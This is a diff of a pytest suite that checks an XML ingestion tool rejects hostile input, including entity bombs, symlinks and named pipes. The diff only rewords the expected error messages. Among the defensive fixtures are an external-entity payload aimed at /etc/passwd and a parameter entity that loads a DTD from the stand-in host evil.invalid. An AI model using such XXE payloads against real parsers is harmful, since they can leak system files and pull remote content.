@@ -32,13 +32,13 @@ PARAMETER = """<!DOCTYPE article [<!ENTITY % all SYSTEM "http://evil.invalid/all
 @pytest.mark.parametrize(
     ("text", "reason"),
     [
-        (BOMB, "declares entities|no well-formed XML"),
+        (BOMB, "declares entities|not well-formed XML"),
         (OUTSIDE.format(path="/etc/passwd"), "declares entities"),
-        (PARAMETER, "declares entities|no well-formed XML"),
-        ("<article>" * 300 + "</article>" * 300, "no well-formed XML"),
-        ("<article><body>", "no well-formed XML at line 1"),
-        ("", "no well-formed XML"),
-        ("\x00\x01", "no well-formed XML"),
+        (PARAMETER, "declares entities|not well-formed XML"),
+        ("<article>" * 300 + "</article>" * 300, "not well-formed XML"),
+        ("<article><body>", "not well-formed XML at line 1"),
+        ("", "not well-formed XML"),
+        ("\x00\x01", "not well-formed XML"),
     ],
 )
 def test_t10_hostile_xml_is_refused_at_once(text: str, reason: str) -> None:
@@ -50,7 +50,7 @@ def test_t10_hostile_xml_is_refused_at_once(text: str, reason: str) -> None:
 
 
 def test_t10_a_bomb_in_utf_16_is_refused_too() -> None:
-    with pytest.raises(RejectedRecord, match=r"declares entities|no well-formed XML"):
+    with pytest.raises(RejectedRecord, match=r"declares entities|not well-formed XML"):
         parse_xml(BOMB.encode("utf-16"), "article.xml")
 
 
@@ -128,7 +128,7 @@ def test_t7_a_damaged_package_is_quarantined(content: bytes, tmp_path: Path) -> 
     path.write_bytes(content)
     (found,) = list(CaseReports().read(str(path)).found)
     assert isinstance(found, Rejection)
-    assert found.reason in ("is no sound package. Fetch it again.", "holds no article.")
+    assert found.reason in ("is not a valid package. Fetch it again.", "holds no article.")
 
 
 def test_a_member_that_is_neither_article_nor_image_is_left_out(tmp_path: Path) -> None:
@@ -151,8 +151,8 @@ def test_t6_a_link_to_an_article_and_a_pipe_are_not_followed(tmp_path: Path) -> 
     (folder / "more").symlink_to(outside)
     os.mkfifo(folder / "pipe.xml")
     assert {(one.place, one.reason) for one in found_in(folder) if isinstance(one, Rejection)} == {
-        ("linked.xml", "is no regular file: links and devices are not followed."),
-        ("pipe.xml", "is no regular file: links and devices are not followed."),
+        ("linked.xml", "is not a regular file: links and devices are not followed."),
+        ("pipe.xml", "is not a regular file: links and devices are not followed."),
     }
 
 
